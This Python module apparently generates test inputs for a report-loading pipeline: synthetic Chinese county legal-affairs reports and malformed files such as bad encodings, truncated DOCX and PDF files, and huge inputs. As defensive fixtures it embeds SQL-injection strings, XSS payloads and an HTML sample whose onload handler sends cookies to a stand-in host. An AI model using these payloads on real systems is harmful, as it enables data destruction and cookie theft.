"""Inputs for the reliability suite, generated at test time (nothing big or binary is committed).

good_reports: small synthetic annual reports for real counties (seeds/regions.csv), each with a
handful of statistics sentences, deterministic for a seed. bad_inputs: malformed and awkward
files, each with what the load must do with it (published, or held back with a reason).
"""

from __future__ import annotations

import csv
import io
import random
import re
import zipfile
from collections import Counter
from dataclasses import dataclass
from functools import cache
from pathlib import Path

PROJECT_ROOT = Path(__file__).resolve().parents[2]

# Hostile text that must be stored verbatim (security: never executed, never spliced).
HOSTILE_SQL = "'); DROP TABLE dim_report; --"
HOSTILE_HTML = "<script>alert('x')</script><img src=x onerror=alert(1)>"
HOSTILE_CONTROLS = "响铃\x07转义\x1b[31m删除\x7f反向\u202e结束"

# Statistics sentences in several styles; {n…} are filled with seeded numbers. Written for this
# suite (not taken from any report) so crash tests exercise breakdowns, flags and units.
SENTENCES = (
    "全年共办理行政复议案件{a}件,其中维持{b}件、撤销{c}件。",
    "{year}年,全县法律援助机构受理法律援助案件{d}件,接待群众来访咨询{e}人次。",
    "组织行政执法人员参加法治培训{f}场次,参训{g}余人。",
    "审查规范性文件{h}件,提出修改意见{i}条。",
    "行政诉讼案件{j}件,行政机关负责人出庭应诉率达到{k}%。",
    "人民调解组织调解矛盾纠纷{l}件,调解成功率{m}%。",
    "开展“法律进乡村”宣传活动{n}场,发放宣传资料约{o}份。",
    "{next}年计划新增公职律师{p}名。",
)


@cache
def counties() -> tuple[tuple[str, str, str], ...]:
    """(province, prefecture, county) for current counties whose name is unique in the country."""
    with (PROJECT_ROOT / "seeds" / "regions.csv").open(encoding="utf-8") as handle:
        rows = [r for r in csv.DictReader(handle) if r["region_level"] == "county" and r["is_current"] == "true"]
    names = Counter(r["region_name"] for r in rows)
    return tuple(
        (r["province_name"], r["prefecture_name"], r["region_name"])
        for r in rows
        if names[r["region_name"]] == 1 and r["region_name"].endswith("县") and r["prefecture_name"]
    )


def report_text(county: tuple[str, str, str], year: int, rng: random.Random, extra: str = "") -> str:
    """One synthetic report: title, source line, sections with statistics, signature."""
    province, prefecture, name = county
    a = rng.randint(20, 400)
    b, c = rng.randint(1, a // 2), rng.randint(1, a // 4)
    numbers = {
        "a": a,
        "b": b,
        "c": c,
        "year": year,
        "next": year + 1,
        **{k: rng.randint(2, 3000) for k in "defghijlnop"},
        "k": rng.randint(60, 100),
        "m": rng.randint(80, 99),
    }
    chosen = rng.sample(SENTENCES, k=rng.randint(4, len(SENTENCES)))
    sections = ["一、推进依法行政", "二、加强行政执法监督", "三、深化普法宣传"]
    body = []
    for i, sentence in enumerate(chosen):
        if i % 3 == 0:
            body.append(sections[(i // 3) % len(sections)])
        body.append(sentence.format(**numbers))
    return "\n\n".join(
        [
            f"关于{name}{year}年法治政府建设情况的报告",
            f"来源: {name}司法局 发布时间: {year + 1}-03-{rng.randint(10, 28)}",
            f"{prefecture}人民政府:",
            f"{year}年,{province}{prefecture}{name}人民政府坚持依法行政,现将有关情况报告如下。",
            *body,
            *([extra] if extra else []),
            f"{name}人民政府",
            f"{year + 1}年3月{rng.randint(1, 9)}日",
        ]
    )


def good_reports(folder: Path, count: int, seed: int = 9, year: int = 2022) -> list[Path]:
    """Write count synthetic .txt reports for distinct counties into folder; returns their paths."""
    folder.mkdir(parents=True, exist_ok=True)
    rng = random.Random(seed)
    places = rng.sample(counties(), k=count)
    paths = []
    for i, county in enumerate(places):
        path = folder / f"r{i:04d}-{county[2]}.txt"
        path.write_text(report_text(county, year, rng), encoding="utf-8")
        paths.append(path)
    return paths


@dataclass(frozen=True)
class Input:
    """One generated input: its file name and what the load must do with it."""

    name: str
    expect: str  # 'published' | 'held' (quarantined, duplicate, unchanged or rejected — with a reason) | 'any'
    why: str
    marker: str | None = None  # text a published version's body_text must contain (decoded right)


def _docx(xml_body: str, truncate: bool = False) -> bytes:
    """A minimal DOCX package (or its first half, when truncate)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        )
        archive.writestr("word/document.xml", xml_body)
    data = buffer.getvalue()
    return data[: len(data) // 2] if truncate else data


def bad_inputs(folder: Path, big_bytes: int = 50_000_000, seed: int = 99, write: bool = True) -> list[Input]:
    """Write the malformed/awkward corpus (plus good inputs) into folder; returns what each must become.

    write=False only lists them (for test ids at collection time)."""
    if write:
        folder.mkdir(parents=True, exist_ok=True)
    rng = random.Random(seed)
    places = iter(rng.sample(counties(), k=40))
    out: list[Input] = []

    marker: list[str] = []  # the county of the last good() text

    def put(name: str, data: bytes | str, expect: str, why: str, checked: bool = True) -> Path:
        path = folder / name
        if write:
            path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
        out.append(Input(name, expect, why, marker[-1] if marker and checked else None))
        marker.clear()
        return path

    def good(extra: str = "") -> str:
        county = next(places)
        marker.append(county[2])
        return report_text(county, 2022, rng, extra)

    # good inputs, some with hostile but harmless text and hostile names
    put("good-plain.txt", good(), "published", "a normal report")
    put("good with spaces.txt", good(), "published", "spaces in the name")
    put("good'quote\"s.txt", good(), "published", "quotes in the name")
    put("good;semi;colon.txt", good(), "published", "semicolons in the name")
    put("x'; DROP TABLE fact_statistic;--.txt", good(), "published", "SQL in the name")
    put("报告 中文名称.txt", good(), "published", "Chinese characters in the name")
    put("new\nline.txt", good(), "published", "a line break in the name")
    put("UPPER-CASE.TXT", good(), "published", "an upper-case extension")
    put("good-sql-text.txt", good(HOSTILE_SQL + " 共处理投诉15件。"), "published", "SQL in the text")
    put("good-gbk.txt", good().encode("gb18030"), "published", "GBK text")
    put("good-utf8-bom.txt", b"\xef\xbb\xbf" + good().encode("utf-8"), "published", "UTF-8 with BOM")
    put("good-html-in-text.txt", good(HOSTILE_HTML + "共受理举报12件。"), "published", "HTML and JavaScript in the text")
    put(
        "good-controls-in-text.txt",
        good(HOSTILE_CONTROLS + "共受理投诉7件。"),
        "published",
        "a few control characters in the text",
    )
    put("good-utf16-bom.txt", good().encode("utf-16"), "published", "UTF-16 with BOM")
    put("good-utf16le-nobom.txt", good().encode("utf-16-le"), "any", "UTF-16 without BOM")
    same = good()
    put("same-a.txt", same, "any", "the same report twice (first name)")
    put("same-b copy.txt", same, "any", "the same report twice (second name)")
    # the pair above: exactly one is published, the other recorded as duplicate (checked by the test)
    put("good-control-chars.txt", good("控制字符\x00\x07\x1b[31m\x7f\u202e结束"), "any", "control characters")
    html_report = good()
    lying = (
        '<html><head><meta charset="utf-8"><title>t</title></head><body><div id="zoom">'
        + html_report.replace("\n\n", "</p><p>")
        + "</div></body></html>"
    ).encode("gb18030")
    put("lying-gbk-as-utf8.html", lying, "published", "GBK bytes declared as UTF-8 in meta")
    scripted = (
        "<html><head><meta charset='utf-8'><script>alert(document.cookie)</script></head>"
        "<body onload=\"fetch('http://evil.invalid/'+document.cookie)\"><div id='zoom'><p>"
        + good("<img src=x onerror=alert(1)>").replace("\n\n", "</p><p onclick='alert(2)'>")
        + "</p></div><script>document.write('<iframe src=//evil.invalid>')</script></body></html>"
    )
    put("scripted.html", scripted, "any", "scripts and event handlers")
    mixed = good().encode("utf-8")
    put("mixed-encodings.txt", mixed[: len(mixed) // 2] + good().encode("gb18030"), "any", "UTF-8 then GBK in one file")
    # inputs that are not reports or cannot be read
    put("empty.txt", b"", "held", "empty file")
    put("whitespace.txt", " \n\t\r\n \u3000".encode(), "held", "whitespace only")
    put("binary.txt", bytes(rng.randrange(256) for _ in range(4096)), "held", "random bytes")
    put("fake.docx", b"this is not a zip archive at all", "held", "a .docx that is plain text")
    put(
        "truncated.docx",
        _docx("<w:document><w:body><w:p><w:r><w:t>" + good() + "</w:t></w:r></w:p></w:body></w:document>", truncate=True),
        "held",
        "a cut DOCX",
    )
    put("nodocument.docx", _docx("<broken"), "held", "a DOCX with broken XML")
    put("fake.pdf", b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n", "held", "a PDF header and nothing else")
    put("truncated.pdf", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Length 500 >>\nstream\nBT /F1 12 Tf", "held", "a cut PDF")
    put(
        "not-a-report.html",
        "<html><body><h1>网站地图</h1><ul><li><a href='/a'>首页</a></li></ul></body></html>",
        "held",
        "a page that is not a report",
    )
    prose = "。".join(
        [
            "一年来,我县坚持以法治思维推进各项工作",
            "行政决策更加规范,执法行为更加文明",
            "普法宣传形式不断创新,群众法治意识明显增强",
            "下一步,我们将继续深化依法行政,建设人民满意的法治政府",
        ]
        * 3
    )
    put(
        "no-statistics.txt",
        f"关于{next(places)[2]}2022年法治政府建设情况的报告\n\n{prose}。",
        "any",
        "a report with no statistics",
    )
    put("long-line.txt", ("法治" * 3_000_000), "any", "a single 6-million-character line")
    put(
        "deep.html",
        "<html><body>" + "<div>" * 20_000 + "关于法治政府建设情况的报告" + "</div>" * 20_000 + "</body></html>",
        "any",
        "20,000-deep nested HTML",
    )
    put("big.txt", b"A" * big_bytes, "any", f"a {big_bytes / 1e6:.0f} MB file")
    put("unsupported.xyz", b"data", "held", "unsupported extension")
    put("report.txt.exe", b"MZ\x90\x00" + bytes(200), "held", "an executable behind a double extension")
    put("old-word.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512, "held", "legacy .doc")
    put("noextension", good(), "held", "no extension")
    put(
        "utf16-html.html",
        ("<html><head><meta charset='utf-16'></head><body><p>" + good() + "</p></body></html>").encode("utf-16"),
        "published",
        "UTF-16 HTML",
    )
    put("nul-only.txt", b"\x00" * 1000, "held", "NUL bytes only")
    put("error-page.pdf", b"<html><body>404 Not Found</body></html>", "held", "an error page behind a .pdf name")
    target = put("link-target.txt", good(), "published", "the target of a symlink")
    if write:
        (folder / "a-symlink.txt").symlink_to(target)
    out.append(Input("a-symlink.txt", "held", "a symbolic link"))
    return out


_COUNTED = re.compile(r"(\d+)(件|人次|场次|条|名|份|场)")


def republished(path: Path) -> None:
    """Change every number of a report file in place (a re-published report with changed numbers)."""
    text = path.read_text(encoding="utf-8")
    path.write_text(_COUNTED.sub(lambda m: f"{int(m[1]) + 1}{m[2]}", text), encoding="utf-8")
